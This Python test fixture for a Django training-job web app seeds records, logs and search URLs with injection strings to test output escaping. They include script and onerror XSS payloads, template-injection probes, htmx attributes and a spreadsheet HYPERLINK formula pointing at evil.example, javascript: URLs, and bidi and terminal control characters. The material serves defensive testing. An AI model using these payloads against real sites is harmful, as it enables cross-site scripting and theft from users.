"""Texts that would like to be more than text, put wherever the cloud or a person can put text."""

from __future__ import annotations

from urllib.parse import quote

from emulator.logs.lines import LogLine
from emulator.world.tenants import BOLT_ROBOTICS_ID
from protos import ml_training_pb2 as ml
from tests.browser.stack import Stack
from tests.sweeps.addresses import filled, routes

MARKUP = (
    "<script>window.hacked=1</script><img src=x onerror='window.hacked=1'><b id=grown>grown</b>"
    "\" onmouseover=\"window.hacked=1\" ' autofocus onfocus='window.hacked=1' </td></table></bdi></textarea></title>"
    ' {{7*7}} {% debug %} x" hx-get="//evil.example/" hx-trigger="load" hx-on:click="window.hacked=1" '
)
UNSEEN = (
    'javascript:window.hacked=1 \u202ereversed\u2066 \x1b[31mred\x1b[0m \x07 =HYPERLINK("//evil.example") 🚂e\u0301'
)
ENDLESS = "w" * 4_000
ALL = f"{MARKUP}{UNSEEN} {ENDLESS}"
# Where a name has no room for all of it.
SHORT = "<img src=x onerror=window.hacked=1>\"' {{7*7}} hx-get=//evil\u202e"

NUMBER = "5be5" + 20 * "0"

PEOPLE = """
from django.contrib.auth.models import User
from django.utils import timezone
from datetime import timedelta
from jobs.models import ApiKey, AuditEntry, Dataset, Invitation, Membership, Organization, Submission
organization = Organization.objects.get(slug="bolt-robotics")
user = User.objects.create(username={short!r}, email="x@example.com", first_name={short!r})
Membership.objects.create(organization=organization, user=user, role=3, added_by=user)
Invitation.objects.create(
    organization=organization, role=1, email={short!r}, invited_by=user, expires_at=timezone.now() + timedelta(days=1)
)
AuditEntry.objects.create(
    organization=organization, actor=user, actor_name={short!r}, action="job:cancel", subject={all!r}[:255],
    reason={all!r}[:500], words={all!r}, outcome="rejected", job_id={number!r}, via={short!r},
)
entry = AuditEntry.objects.create(
    organization=organization, actor=user, actor_name={short!r}, action="job:submit", subject={all!r}[:255],
    words={all!r}, outcome="unknown", finished_at=timezone.now(),
)
Submission.objects.create(
    entry=entry, organization=organization, person=user, key={all!r}[:255], words={all!r}, state="unknown",
    request={{"kind": "managed", "name": {all!r}, "version": {all!r}, "dataset": {short!r}, "labels": [{all!r}]}},
)
Dataset.objects.create(organization=organization, viam_id={all!r}[:200], name={all!r}[:500])
ApiKey.objects.update(label={short!r}, added_by=user)
Organization.objects.update(name={all!r}[:255], namespace={all!r}[:255], region={all!r}[:100])
"""


def poison(stack: Stack) -> None:
    """A job that failed and a custom one under way, their logs, and all that people type."""
    for job in jobs():
        stack.cloud.world.put(job)
        stack.cloud.world.set_log(job.id, log_of(job))
    values = {"short": SHORT, "all": ALL, "number": NUMBER}
    done = stack.installation.manage("shell", "-c", PEOPLE.format(**values))
    assert done.returncode == 0, done.stderr
    done = stack.installation.manage("refresh", "--once")
    assert done.returncode == 0, done.stderr


def jobs() -> list[ml.TrainingJobMetadata]:
    failed = ml.TrainingJobMetadata(id=NUMBER, status=ml.TRAINING_STATUS_FAILED, is_custom_job=True)
    running = ml.TrainingJobMetadata(id=f"{NUMBER[:-1]}1", status=ml.TRAINING_STATUS_IN_PROGRESS)
    failed.error_status.code, failed.error_status.message = 3, ALL
    for job in (failed, running):
        job.organization_id = BOLT_ROBOTICS_ID
        job.model_name = job.model_version = job.dataset_id = ALL
        job.registry_item_id = job.registry_item_version = job.container_version = job.synced_model_id = ALL
        job.tags.extend([ALL, SHORT, "\0"])
        job.arguments[SHORT] = ALL
        job.arguments[ENDLESS] = MARKUP
        for stamp in (job.created_on, job.last_modified, job.training_started):
            stamp.GetCurrentTime()
    failed.training_ended.GetCurrentTime()
    return [failed, running]


def log_of(job: ml.TrainingJobMetadata) -> list[LogLine]:
    at = job.training_started.seconds
    texts = (
        ALL,
        "a\rb\rc",
        "nul \0 nul",
        "w" * 100_000,
        "two\nlines <b id=grown>",
        "\x1b]8;;javascript:x\x07link\x1b]8;;\x07",
    )
    return [LogLine(level, at, text) for level, text in zip((SHORT, "ERROR", "INFO") * 2, texts, strict=True)]


def addresses(stack: Stack) -> list[str]:
    """Every page, and those of both jobs; searches for such texts as well."""
    ((key,),) = stack.stored("SELECT id FROM jobs_apikey")
    ((entry,),) = stack.stored("SELECT id FROM jobs_auditentry WHERE action = 'job:submit' AND outcome = 'unknown'")
    ((member,),) = stack.stored("SELECT id FROM jobs_membership")
    ((name,),) = stack.stored(f"SELECT model_name FROM jobs_job WHERE viam_id = '{NUMBER}'")  # noqa: S608
    values = {"slug": "bolt-robotics", "uuid": key, "name": quote(str(name), safe="")}
    ours = [route for route in routes() if not route.startswith(("admin/", "sign-out/", "join/"))]
    found = [
        filled(route, values | {"viam_id": job.id} | ({} if "<uuid" in route else {"pk": pk}))
        for job in jobs()
        for route in ours
        for pk in [entry if "submissions" in route else member]
    ]
    search = [
        f"/orgs/bolt-robotics/{page}/?q={quote(MARKUP)}&who={quote(SHORT)}" for page in ("jobs", "activity", "models")
    ]
    return list(dict.fromkeys([*found, *search]))
